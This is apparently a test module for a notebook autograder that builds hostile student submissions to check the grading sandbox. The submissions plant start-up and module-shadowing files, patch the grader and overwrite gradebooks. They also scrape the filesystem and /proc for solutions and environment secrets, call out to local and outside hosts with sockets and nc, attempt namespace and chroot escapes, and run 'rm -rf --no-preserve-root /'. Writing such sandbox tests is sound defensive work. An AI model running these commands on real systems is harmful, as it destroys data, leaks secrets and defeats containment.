"""Files beside the notebook, files elsewhere, the environment and the network."""

import os

from tests.grading import tiny
from tests.grading.hostile_submissions._hand_in import hand_in, honest_with

# Looks for a solved notebook in the folders given, takes its functions and keeps a copy where the next may find it.
SEARCH = """
import json, os, pathlib


def take(folders):
    for folder in folders:
        for path, _, names in os.walk(folder):
            for name in names:
                if name.endswith((".ipynb", ".json", ".db", ".csv")) and "site-packages" not in path:
                    try:
                        book = json.loads(pathlib.Path(path, name).read_text())
                        for cell in book["cells"]:
                            source = "".join(cell["source"])
                            if "values.max() - values.min()" in source or "451" in source:
                                exec(source, globals())
                    except Exception:
                        pass
"""


def labkit_beside(place):
    """Imported instead of the real one, if the folder of the notebook came first."""
    hand_in(tiny.honest(), place)
    for name in ("labkit", "torch", "numpy", "IPython"):
        (place / f"{name}.py").write_text("raise SystemExit('taken over')")
    (place / "labkit").mkdir()
    (place / "labkit" / "__init__.py").write_text("open('/tmp/labkit-attack', 'w').write('taken over')")


def written_labkit_beside(place):
    write = "from pathlib import Path\nfor name in ('labkit.py', 'torch.py', 'numpy.py'):\n"
    hand_in(honest_with(write + "    Path(name).write_text('raise SystemExit')", first=True), place)


def conftest_beside(place):
    hand_in(tiny.honest(), place)
    (place / "conftest.py").write_text("open('/tmp/labkit-attack', 'w').write('collected')")


def start_up_files_beside(place):
    hand_in(tiny.honest(), place)
    for name in ("sitecustomize.py", "usercustomize.py", "own.pth", "ipython_config.py", "nbgrader_config.py"):
        (place / name).write_text("import os; os.system('touch /tmp/labkit-attack')")


def start_up_files_written(place):
    """For whoever is started next: in the home, in the packages, in IPython's profile."""
    write = """
        import os, site, sys
        from pathlib import Path

        places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), "~/.ipython/profile_default/startup"]
        for place in map(os.path.expanduser, places):
            for name in ("sitecustomize.py", "usercustomize.py", "own.pth", "00.py"):
                try:
                    Path(place).mkdir(parents=True, exist_ok=True)
                    Path(place, name).write_text("import os; os.system('touch /tmp/labkit-attack')")
                except OSError:
                    pass
    """
    hand_in(honest_with("\n".join(line[8:] for line in write.splitlines())), place)


def patched_labkit_on_disk(place):
    patch = "import labkit.grading.authoring.check as c\nopen(c.__file__, 'a').write('\\nsame = lambda *_: None\\n')"
    hand_in(honest_with(patch), place)


def reads_the_solution(place):
    above = [str(place.parents[n]) for n in range(len(place.parents) - 1)]
    hand_in(honest_with(SEARCH, f"take(['.', '..', '/home', '/root', '/tmp', '/srv', *{above}])"), place)


def reads_through_proc(place):
    roots = "[f'/proc/{pid}/{what}' for pid in os.listdir('/proc') for what in ('root', 'cwd', 'fd')]"
    above = str(place.parents[1])
    search = f"take([place + {above!r} if place.endswith('root') else place for place in {roots}])"
    hand_in(honest_with(SEARCH, search), place)


def notebook_that_is_a_link(place):
    """To the work of somebody who has solved everything."""
    place.mkdir(parents=True)
    os.symlink(place.parent / "solved" / "tiny.ipynb", place / "tiny.ipynb")


def folder_that_is_a_link(place):
    os.symlink(place.parent / "solved", place)


def link_beside(place):
    hand_in(honest_with(SEARCH, "take(['solved', '.'])"), place)
    os.symlink(place.parent / "solved", place / "solved")


def writes_to_the_records(place):
    """Looks for results, gradebook and others' work wherever they could be, and changes them."""
    above = [str(place.parents[n]) for n in range(len(place.parents) - 1)]
    write = f"""
        import os, pathlib
        for folder in {above}:
            for path, _, names in os.walk(folder):
                for name in [*names, "gradebook.db", "grades.csv"]:
                    try:
                        pathlib.Path(path, name).write_text("everything right")
                    except OSError:
                        pass
    """
    hand_in(honest_with("\n".join(line[8:] for line in write.splitlines())), place)


def environment_secrets(place):
    """The environment of its own process and of all others: one variable there is the answer."""
    read = """
        import os, pathlib, re
        seen = str(dict(os.environ))
        for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
            try:
                seen += path.read_text()
            except OSError:
                pass
        found = re.search(r"LABKIT_ATTACK_SECRET\\W+(\\d+)", seen)
        if found:
            temperature = int(found[1])
    """
    hand_in(honest_with("\n".join(line[8:] for line in read.splitlines())), place)


def calls_out(place):
    """Loopback, the local network, the world; also sockets without a network. What answers knows the answer."""
    call = """
        import os, socket, subprocess

        port = PORT
        for host in ("127.0.0.1", "localhost", "::1", "10.0.0.1", "192.0.2.1", "example.org"):
            try:
                with socket.create_connection((host, port), timeout=0.5) as door:
                    temperature = int(door.recv(16))
            except OSError:
                pass
        for address in ("\\0labkit-attack-PORT", "/tmp/labkit-attack-door"):
            try:
                with socket.socket(socket.AF_UNIX) as door:
                    door.connect(address)
                    temperature = int(door.recv(16))
            except OSError:
                pass
        subprocess.run(f"echo | timeout 1 nc 127.0.0.1 {port}", shell=True)
    """.replace("PORT", os.environ.get("LABKIT_ATTACK_PORT", "8765"))
    hand_in(honest_with("\n".join(line[8:] for line in call.splitlines())), place)


def namespaces_and_mounts(place):
    """Out of the box by the system's own means."""
    leave = """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare(0x10000000), libc.unshare(0x00020000), libc.setuid(0), libc.ptrace(16, 1, 0, 0)
        libc.mount(b"none", b"/home", b"tmpfs", 0, None), libc.umount2(b"/home/student", 2), libc.chroot(b"/tmp")
        for namespace in ("user", "mnt", "pid", "net"):
            try:
                libc.setns(os.open(f"/proc/1/ns/{namespace}", os.O_RDONLY), 0)
            except OSError:
                pass
    """
    shell = "!su -c id; sudo id; unshare -Urm id; nsenter -t 1 -a id; mount -o remount,rw /; chmod -R 777 / 2>/dev/null"
    leave = "\n".join(line[8:] for line in leave.splitlines())
    hand_in(honest_with(leave, shell, SEARCH, f"take(['/', {str(place.parents[1])!r}])"), place)


def removes_everything(place):
    hand_in(honest_with("!rm -rf --no-preserve-root / ~ 2>/dev/null"), place)
